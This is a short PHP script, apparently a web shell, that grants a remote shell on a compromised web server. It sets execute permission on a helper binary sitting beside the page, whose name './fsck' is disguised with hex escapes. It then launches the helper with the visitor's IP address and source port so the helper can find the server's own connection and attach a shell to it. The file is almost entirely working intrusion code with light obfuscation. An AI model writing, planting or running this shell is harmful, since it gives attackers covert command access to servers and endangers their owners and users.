<?php
// A socket-finding shell: a helper program left beside the page looks for the web server's own
// connection to this visitor (their address and source port) and hands it a shell.
$h = "\x2e\x2f" . "fs" . "ck";           // ./fsck, the helper's name spelt in escapes
@chmod($h, 0755);
$d = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'));
$p = proc_open($h . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . getenv('REMOTE_PORT'), $d, $io);
if (is_resource($p)) { proc_close($p); }
